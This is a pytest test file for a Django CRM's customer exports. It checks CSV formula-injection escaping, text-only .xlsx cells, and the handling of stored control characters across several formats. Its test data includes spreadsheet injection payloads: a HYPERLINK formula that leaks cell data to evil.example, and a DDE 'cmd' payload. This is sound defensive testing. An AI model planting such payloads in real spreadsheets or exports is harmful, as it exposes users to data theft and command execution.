"""Exports that cannot hurt: no formula from user data in CSV, .xlsx text cells exactly as stored,
and control characters already in the database never make an export fail (CSV, .xlsx — openpyxl
refuses them —, the export task, vCard, the iCalendar feed, JSON)."""

import csv
import io
from datetime import date

import pytest
import vobject
from django.test import TestCase
from django.urls import reverse
from icalendar import Calendar
from openpyxl import load_workbook

from kehu.customers.models import Contact, Customer
from kehu.customers.services import contact_create
from kehu.integrations.models import ExportJob, ExportStatus

from .conftest import run_import

pytestmark = pytest.mark.django_db

EXPORT = reverse("integrations:export-customers")
# Stored values beginning with each character spreadsheets treat as the start of a formula.
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "plus": "+86 138 0000 0000",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
# Control characters PostgreSQL and SQLite both store (NUL cannot be stored: refused at the doors).
STORED_CONTROLS = "\x07\x1b\x0b\x7f\x85\x9b"


def _rows(body: bytes) -> list[dict]:
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile(team, customer_of):
    """One customer per dangerous leading character (in the name, the notes and the contact's position);
    stored directly, as an import or an old version might have."""
    made = {}
    for key, value in FORMULAS.items():
        customer = customer_of(team.rep1, f"{key} 公司")
        Customer.objects.filter(pk=customer.pk).update(notes=value, address=value, phone="+86 571 8812 3456")
        contact_create(customer=customer, actor=team.rep1, name=f"{key} 联系人", is_primary=True)
        Contact.objects.filter(customer=customer).update(position=value)
        made[key] = customer
    return made


@pytest.mark.parametrize("key", FORMULAS)
def test_csv_cells_starting_a_formula_get_an_apostrophe(client, team, hostile, key):
    client.force_login(team.manager1)
    rows = {r["Customer name"]: r for r in _rows(_body(client.get(EXPORT + "?format=csv")))}
    row = rows[f"{key} 公司"]
    value = FORMULAS[key]
    assert row["Notes"] == row["Address"] == row["Contact position"] == "'" + value
    assert row["Company phone"] == "'+86 571 8812 3456"
    assert row["Customer name"] == f"{key} 公司"  # ordinary text unchanged


def test_a_quoted_csv_imports_back_as_it_was_stored(client, team, hostile):
    client.force_login(team.manager1)
    body = _body(client.get(EXPORT + "?format=csv"))
    Contact.objects.all().delete()
    Customer.objects.all().delete()
    job = run_import(team.manager1, "again.csv", body)
    assert job.report["created"] == len(FORMULAS)
    for key, value in FORMULAS.items():
        customer = Customer.objects.get(name=f"{key} 公司")
        # Leading tabs and line breaks in a one-line field become a space, then the cell is trimmed.
        expected = value if not value.startswith(("\t", "\r")) else value.strip()
        assert customer.address == expected, key
        assert customer.notes == value, key  # multi-line text: exactly
        assert customer.phone == "+86 571 8812 3456"


def test_xlsx_cells_are_text_exactly_as_stored(client, team, hostile):
    client.force_login(team.manager1)
    body = _body(client.get(EXPORT + "?format=xlsx"))
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    for key, value in FORMULAS.items():
        cells = dict(zip(header, rows[f"{key} 公司"], strict=True))
        expected = value.replace("\r", "\n")  # Excel's own line break
        for column in ("Notes", "Address", "Contact position"):
            assert cells[column].value == expected, (key, column)
            assert (cells[column].data_type, cells[column].number_format) == ("s", "@")
        assert cells["Company phone"].value == "+86 571 8812 3456"


@pytest.fixture
def dirty(team, customer_of):
    """A customer, contact and activities holding control characters stored before the rule."""
    from kehu.activities.services import activity_log, visit_plan

    customer = customer_of(team.rep1, "华星精密")
    contact = contact_create(
        customer=customer, actor=team.rep1, name="王建国", mobile="13857112345", birthday=date(1980, 3, 14)
    )
    visit = visit_plan(
        customer=customer,
        actor=team.rep1,
        planned_for="2030-05-06T09:30:00+08:00",
        subject="拜访",
        purpose="介绍新品",
    )
    commitment = activity_log(
        customer=customer, actor=team.rep1, kind="commitment", subject="报价", due_on="2030-01-10"
    )
    Customer.objects.filter(pk=customer.pk).update(
        name=f"华星{STORED_CONTROLS}精密", address=f"人民路{STORED_CONTROLS}1号", notes=f"备注{STORED_CONTROLS}\n第二行"
    )
    Contact.objects.filter(pk=contact.pk).update(name=f"王{STORED_CONTROLS}建国", position=f"经理{STORED_CONTROLS}")
    type(visit).objects.filter(pk__in=[visit.pk, commitment.pk]).update(
        subject=f"拜访{STORED_CONTROLS}", purpose=f"介绍{STORED_CONTROLS}新品"
    )
    return customer, contact


def test_csv_and_xlsx_exports_drop_stored_control_characters(client, team, dirty):
    client.force_login(team.manager1)
    [row] = _rows(_body(client.get(EXPORT + "?format=csv")))
    assert (row["Customer name"], row["Address"], row["Notes"]) == ("华星精密", "人民路1号", "备注\n第二行")
    assert (row["Contact name"], row["Contact position"]) == ("王建国", "经理")
    response = client.get(EXPORT + "?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(response))).active
    assert [c.value for c in sheet[2]][:1] == ["华星精密"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_task_finishes_with_stored_control_characters(client, team, dirty, settings, fmt):
    settings.KEHU_EXPORT_SYNC_ROWS = 1
    client.force_login(team.manager1)
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.get(EXPORT + f"?format={fmt}")
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert (job.status, job.row_count) == (ExportStatus.DONE, 1)
    assert client.get(reverse("integrations:export-download", args=[job.pk])).status_code == 200


def test_vcards_drop_stored_control_characters(client, api_client, team, dirty):
    customer, contact = dirty
    client.force_login(team.manager1)
    for response in (
        client.get(reverse("integrations:contact-vcard", args=[contact.pk])),
        client.get(reverse("integrations:customer-vcards", args=[customer.pk])),
        api_client(team.manager1).get(f"/api/v1/transfer/contacts/{contact.pk}/vcard"),
    ):
        assert response.status_code == 200
        text = response.content.decode()
        assert not any(c in text for c in STORED_CONTROLS)
        card = next(vobject.readComponents(text))
        assert (card.fn.value, card.org.value, card.title.value) == ("王建国", ["华星精密"], "经理")


def test_the_calendar_feed_drops_stored_control_characters(client, team, dirty):
    client.force_login(team.rep1)
    url = client.post("/activities/calendar/").context["url"].replace("http://testserver", "")
    client.logout()
    response = client.get(url)
    assert response.status_code == 200
    assert not any(c.encode() in response.content for c in STORED_CONTROLS)
    cal = Calendar.from_ical(response.content)
    summaries = sorted(str(c["summary"]) for c in cal.walk() if c.name in ("VEVENT", "VTODO"))
    assert summaries == ["Birthday: 王建国 · 华星精密", "Commitment: 拜访 · 华星精密", "Visit: 拜访 · 华星精密"]
    visit = next(c for c in cal.walk("VEVENT") if str(c["uid"]).startswith("visit"))
    assert str(visit["description"]) == "介绍新品"


def test_json_answers_with_stored_control_characters(client, api_client, team, dirty):
    customer, contact = dirty
    api = api_client(team.rep1)
    response = api.get(f"/api/v1/customers/{customer.pk}")
    assert response.status_code == 200 and response.json()["name"] == f"华星{STORED_CONTROLS}精密"
    assert api.get(f"/api/v1/contacts/{contact.pk}").status_code == 200
    assert api.get("/api/v1/customers/?q=华星").status_code == 200
    Customer.objects.filter(pk=customer.pk).update(latitude=30.27, longitude=120.15)
    client.force_login(team.manager1)
    points = client.get(reverse("customers:customer-map-points")).json()["points"]
    assert [p[3] for p in points] == [f"华星{STORED_CONTROLS}精密"]
    assert client.get(f"/customers/{customer.pk}/").status_code == 200
